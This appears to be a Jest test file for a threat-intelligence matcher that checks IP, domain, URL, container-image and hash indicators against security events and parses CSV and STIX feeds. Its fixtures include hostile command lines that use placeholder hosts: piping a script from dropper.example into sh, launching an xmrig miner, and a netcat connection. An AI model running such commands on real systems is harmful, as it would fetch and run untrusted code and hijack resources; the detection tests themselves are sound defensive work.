import { IndicatorSet, type Indicator } from './indicator-set';
import { DIGEST_FIELDS, HASH_FIELDS, IMAGE_FIELDS, matchIntel, observablesInText, TEXT_FIELDS } from './intel-matcher';
import { normalizeImage, normalizeUrl } from './normalize';
import { PrefixTable } from './prefix-table';
import { parseIndicatorCsv, parseIndicatorList, parseStixBundle, typeFromFileName } from './parse-indicators';

function setOf(...inds: [Indicator['type'], string][]): IndicatorSet {
  const s = new IndicatorSet();
  for (const [type, value] of inds) expect(s.add({ type, value, source: 'test' })).toBe(true);
  return s;
}

describe('normal forms', () => {
  it('treats Docker image references as dockerd does', () => {
    const same = ['alpine', 'alpine:latest', 'docker.io/library/alpine:latest', 'index.docker.io/library/alpine'];
    for (const s of same)
      expect(normalizeImage(s)).toEqual({
        repo: 'docker.io/library/alpine',
        tag: s.includes(':l') ? 'latest' : undefined,
        digest: undefined,
      });
    expect(normalizeImage('ghcr.io/Org/Miner:v1')).toEqual({ repo: 'ghcr.io/org/miner', tag: 'v1', digest: undefined });
    expect(normalizeImage('localhost:5000/x')?.repo).toBe('localhost:5000/x');
    expect(normalizeImage(`a@sha256:${'A'.repeat(64)}`)?.digest).toBe(`sha256:${'a'.repeat(64)}`);
    expect(normalizeImage('not an image')).toBeUndefined();
  });

  it('normalises URLs (scheme and host case, defanged hxxp) and keeps the path', () => {
    expect(normalizeUrl('HXXP://Dropper[.]Example/m.sh#x')).toEqual({
      normal: 'http://dropper.example/m.sh',
      host: 'dropper.example',
    });
    expect(normalizeUrl('no url')).toBeUndefined();
  });
});

describe('indicator set', () => {
  const set = setOf(
    ['ip', '203.0.113.7'],
    ['cidr', '198.51.100.0/24'],
    ['cidr', '2001:db8:bad::/48'],
    ['domain', 'Miner.Example.'],
    ['url', 'http://dropper.example/m.sh'],
    ['image', 'xmrig/xmrig'],
    ['image', 'alpine:3.18'],
    ['digest', `sha256:${'b'.repeat(64)}`],
    ['hash', 'd41d8cd98f00b204e9800998ecf8427e'],
  );

  it('matches addresses and networks, v4, v6 and v4-mapped', () => {
    expect(set.matchIp('203.0.113.7')?.value).toBe('203.0.113.7');
    expect(set.matchIp('::ffff:198.51.100.200')?.value).toBe('198.51.100.0/24');
    expect(set.matchIp('2001:db8:bad:1::9')?.value).toBe('2001:db8:bad::/48');
    expect(set.matchIp('203.0.113.8')).toBeUndefined();
  });

  it('matches domains with their subdomains, not lookalikes', () => {
    expect(set.matchDomain('pool.eu.miner.example')?.value).toBe('Miner.Example.');
    expect(set.matchDomain('notminer.example')).toBeUndefined();
    expect(set.matchUrl('https://x.miner.example/a')?.type).toBe('domain');
    expect(set.matchUrl('http://DROPPER.example/m.sh')?.type).toBe('url');
    expect(set.matchUrl('http://198.51.100.3:8080/x')?.type).toBe('cidr');
  });

  it('matches images with and without tag, and digests', () => {
    expect(set.matchImage('docker.io/xmrig/xmrig:6.21')?.value).toBe('xmrig/xmrig');
    expect(set.matchImage('alpine:3.18')?.value).toBe('alpine:3.18');
    expect(set.matchImage('alpine')).toBeUndefined(); // alpine:latest is not alpine:3.18
    expect(set.matchImage(`nginx@sha256:${'b'.repeat(64)}`)?.type).toBe('digest');
    expect(set.matchHash('D41D8CD98F00B204E9800998ECF8427E')?.type).toBe('hash');
  });

  it('refuses values that are not of their type', () => {
    const s = new IndicatorSet();
    expect(s.add({ type: 'ip', value: '999.1.1.1', source: 't' })).toBe(false);
    expect(s.add({ type: 'domain', value: 'a b', source: 't' })).toBe(false);
    expect(s.add({ type: 'hash', value: 'xyz', source: 't' })).toBe(false);
    expect(s.size).toBe(0);
  });
});

describe('matching events', () => {
  const set = setOf(
    ['ip', '203.0.113.7'],
    ['domain', 'pool.miner.example'],
    ['url', 'http://dropper.example/m.sh'],
    ['image', 'miner-example/xmrig'],
    ['cidr', '192.0.2.0/24'],
  );

  it('finds the client address, URLs, hosts and addresses in commands, and pulled images', () => {
    const hits = matchIntel(
      {
        source: { ip: '203.0.113.7' },
        process: {
          command_line:
            "sh -c 'curl -s http://dropper.example/m.sh | sh; ./xmrig -o stratum+tcp://pool.miner.example:3333 --donate 192.0.2.5'",
        },
        url: { query: 'fromImage=miner-example%2Fxmrig&tag=latest' },
      },
      set,
    );
    expect(hits.map((h) => [h.field, h.indicator.value])).toEqual([
      ['source.ip', '203.0.113.7'],
      ['process.command_line', 'http://dropper.example/m.sh'],
      ['process.command_line', 'pool.miner.example'],
      ['process.command_line', '192.0.2.0/24'],
      ['url.query', 'miner-example/xmrig'],
    ]);
  });

  it('reads fields as fieldStrings does: flattened top-level keys first, arrays at any level, numbers as text', () => {
    const flat = matchIntel({ 'source.ip': '203.0.113.7', source: { ip: '10.0.0.1' } }, set);
    expect(flat.map((h) => [h.field, h.observed])).toEqual([['source.ip', '203.0.113.7']]);
    const arrays = matchIntel(
      { dockguard: [{ container: { cmd: ['sh', '-c', 'wget http://dropper.example/m.sh'] } }], process: { args: [7] } },
      set,
    );
    expect(arrays.map((h) => [h.field, h.indicator.value])).toEqual([
      ['dockguard.container.cmd', 'http://dropper.example/m.sh'],
    ]);
    // a URL without a dot is still a URL: the cheap pre-check must not skip it
    const dotless = setOf(['url', 'http://dropper/m']);
    expect(matchIntel({ process: { command_line: 'curl http://dropper/m' } }, dotless)).toHaveLength(1);
  });

  it('skips only what the set cannot match: an address-only set still finds addresses in commands', () => {
    const ips = setOf(['ip', '192.0.2.5']);
    expect(ips.holds).toEqual({ text: true, ips: true, images: false, digests: false, hashes: false });
    const hits = matchIntel(
      {
        source: { ip: '192.0.2.5' },
        process: { command_line: 'nc 192.0.2.5 4444' },
        container: { image: { name: 'x' } },
      },
      ips,
    );
    expect(hits.map((h) => h.field)).toEqual(['source.ip']); // one indicator, reported once
    const images = setOf(['image', 'miner-example/xmrig']);
    expect(images.holds).toEqual({ text: false, ips: false, images: true, digests: false, hashes: false });
    expect(
      matchIntel(
        { source: { ip: '192.0.2.5' }, container: { image: { name: 'miner-example/xmrig:latest' } } },
        images,
      ).map((h) => h.field),
    ).toEqual(['container.image.name']);
  });

  it('reports nothing for a clean event and bounds the text it scans', () => {
    expect(matchIntel({ source: { ip: '10.0.0.1' }, process: { command_line: 'ls -la' } }, set)).toEqual([]);
    const o = observablesInText(`${'a.example '.repeat(10_000)}`);
    expect(o.hosts.length).toBeLessThanOrEqual(256);
  });
});

describe('prefix table', () => {
  it('answers repeated lookups from its cache, and a network added later is seen by the next lookup', () => {
    const t = new PrefixTable<string>();
    t.addText('192.0.2.0/24', 'doc');
    for (let i = 0; i < 3; i++) {
      expect(t.lookupText('192.0.2.9')).toBe('doc');
      expect(t.lookupText('198.51.100.1')).toBeUndefined();
      expect(t.lookupText('not an address')).toBeUndefined();
    }
    t.addText('198.51.100.0/30', 'later');
    t.addText('192.0.2.9', 'host');
    expect(t.lookupText('198.51.100.1')).toBe('later');
    expect(t.lookupText('192.0.2.9')).toBe('host'); // longest prefix wins over the cached /24 answer
    // past the cache's bound, answers stay right
    for (let i = 0; i < 5000; i++) expect(t.lookupText(`10.${(i >> 8) & 255}.${i & 255}.1`)).toBeUndefined();
    expect(t.lookupText('192.0.2.200')).toBe('doc');
  });
});

describe('indicator files', () => {
  it('CSV: header, comments, quotes, and every bad line reported with its line', () => {
    const r = parseIndicatorCsv(
      'f.csv',
      'type,value,source,description\n# c\nip,192.0.2.1,feed,"a, b"\nbogus,x\nurl,\n"ip,1\n',
    );
    expect(r.indicators).toEqual([{ type: 'ip', value: '192.0.2.1', source: 'feed', description: 'a, b' }]);
    expect(r.errors.map((e) => e.location?.line)).toEqual([4, 5, 6]);
    expect(r.errors.every((e) => e.code === 'INTEL_FILE_INVALID')).toBe(true);
  });

  it('plain lists take their type from the file name', () => {
    expect(typeFromFileName('/x/bad-domains.txt')).toBe('domain');
    expect(typeFromFileName('ips.list')).toBe('ip');
    expect(typeFromFileName('images.txt')).toBe('image');
    expect(typeFromFileName('stuff.txt')).toBeUndefined();
    expect(parseIndicatorList('ips.txt', '# x\n192.0.2.1 # scanner\n\n', 'ip').indicators).toHaveLength(1);
  });

  it('STIX: simple patterns and ORs are read, others counted as unsupported warnings, revoked skipped', () => {
    const ind = (pattern: string, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
      type: 'indicator',
      id: `indicator--${pattern.length}`,
      pattern,
      pattern_type: 'stix',
      ...extra,
    });
    const bundle = {
      type: 'bundle',
      objects: [
        ind("[ipv4-addr:value = '198.51.100.0/24']"),
        ind("[domain-name:value = 'a.example'] OR [url:value = 'http://b.example/it\\'s']"),
        ind("[file:hashes.'SHA-256' = '" + 'c'.repeat(64) + "']"),
        ind("[ipv4-addr:value = '192.0.2.1' AND domain-name:value = 'x.example']"),
        ind("[process:name = 'xmrig']"),
        ind('x', { pattern_type: 'yara' }),
        ind("[ipv4-addr:value = '192.0.2.9']", { revoked: true }),
        { type: 'malware', id: 'malware--1' },
      ],
    };
    const r = parseStixBundle('b.json', JSON.stringify(bundle));
    expect(r.indicators.map((i) => [i.type, i.value])).toEqual([
      ['ip', '198.51.100.0/24'],
      ['domain', 'a.example'],
      ['url', "http://b.example/it's"],
      ['hash', 'c'.repeat(64)],
    ]);
    expect(r.unsupported).toBe(3);
    expect(r.errors.every((e) => e.severity === 'warning')).toBe(true);
    expect(parseStixBundle('b.json', '{"type":"x"}').errors[0]?.severity).toBe('error');
    expect(parseStixBundle('b.json', 'not json').errors[0]?.code).toBe('INTEL_FILE_INVALID');
  });
});

describe('remembered answers', () => {
  const ev = (cmd: string, image = 'alpine', query = 'fromImage=miner-example%2Fxmrig&tag=latest'): unknown => ({
    process: { command_line: cmd },
    container: { image: { name: image } },
    url: { query },
  });

  it('answer as a fresh scan does, on repeats and past the memo bound', () => {
    const set = setOf(
      ['url', 'http://dropper.example/m.sh'],
      ['image', 'miner-example/xmrig'],
      ['domain', 'pool.example'],
    );
    const fresh = (e: unknown): unknown =>
      matchIntel(
        e,
        setOf(['url', 'http://dropper.example/m.sh'], ['image', 'miner-example/xmrig'], ['domain', 'pool.example']),
      );
    const events = [
      ev('curl -s http://dropper.example/m.sh | sh'),
      ev('curl -s http://dropper.example/m.sh | sh'), // the same text again: remembered
      ev('x a.pool.example b.pool.example http://dropper.example/m.sh', 'miner-example/xmrig:latest'),
      ev('ls /tmp', 'alpine', 'fromImage=alpine'),
    ];
    for (const e of events) expect(matchIntel(e, set)).toEqual(fresh(e));
    // past the bound (4,096 per kind) the memo starts again: the same answers
    for (let i = 0; i < 5000; i++)
      expect(matchIntel(ev(`echo ${i}.example`, `img-${i}`, `fromImage=img-${i}`), set)).toEqual([]);
    for (const e of events) expect(matchIntel(e, set)).toEqual(fresh(e));
  });

  it('answer as a fresh scan does for events repeating values in any field read, one field apart or more', () => {
    const inds: [Indicator['type'], string][] = [
      ['ip', '203.0.113.7'],
      ['domain', 'pool.example'],
      ['url', 'http://dropper.example/m.sh'],
      ['image', 'miner-example/xmrig'],
      ['digest', `sha256:${'a'.repeat(64)}`],
      ['hash', 'b'.repeat(64)],
    ];
    const set = setOf(...inds);
    const pool = [
      '203.0.113.7',
      '198.51.100.1',
      'curl http://dropper.example/m.sh',
      'ping a.pool.example',
      'miner-example/xmrig:latest',
      'fromImage=miner-example%2Fxmrig',
      `sha256:${'a'.repeat(64)}`,
      'b'.repeat(64),
      'alpine',
      ['x', 'http://dropper.example/m.sh'],
    ];
    // every field matchIntel reads (its readers' lists): the memo's walk must cover each
    const read = ['source.ip', 'url.query', ...TEXT_FIELDS, ...IMAGE_FIELDS, ...DIGEST_FIELDS, ...HASH_FIELDS];
    let x = 7;
    const rnd = (n: number): number => ((x = (x * 1103515245 + 12345) & 0x7fffffff), x % n);
    const put = (e: Record<string, unknown>, field: string, v: unknown): void => {
      const path = field.split('.');
      let o = e;
      for (const seg of path.slice(0, -1)) o = (o[seg] ??= {}) as Record<string, unknown>;
      o[path[path.length - 1] as string] = v;
    };
    // a few base events, each varied in one field at a time: events one field apart share every
    // other value, so a memo that left a field out of its key would answer one with the other's hits
    const bases = Array.from({ length: 4 }, () => {
      const e: Record<string, unknown> = {};
      for (let k = 0; k < 2; k++) put(e, read[rnd(read.length)] as string, pool[rnd(pool.length)]);
      return e;
    });
    // every field with every value, after a first pass that fills the memo
    const shapes = bases.flatMap((b) =>
      read.flatMap((f) =>
        pool.map((v) => {
          const e = structuredClone(b);
          put(e, f, v);
          return e;
        }),
      ),
    );
    let hits = 0;
    for (const pass of [0, 1])
      for (const shape of shapes) {
        const e = structuredClone(shape);
        const got = matchIntel(e, set);
        if (pass === 1) hits += got.length;
        expect({ e, got }).toEqual({ e, got: matchIntel(e, setOf(...inds)) });
      }
    expect(hits).toBeGreaterThan(100);
  });

  it('follow indicators added after a match', () => {
    const set = setOf(['domain', 'other.example']);
    const e = ev('wget http://late.example/x', 'late/image');
    expect(matchIntel(e, set)).toEqual([]);
    set.add({ type: 'domain', value: 'late.example', source: 'test' });
    set.add({ type: 'image', value: 'late/image', source: 'test' });
    expect(matchIntel(e, set).map((h) => [h.field, h.indicator.value])).toEqual([
      ['process.command_line', 'late.example'],
      ['container.image.name', 'late/image'],
    ]);
  });
});
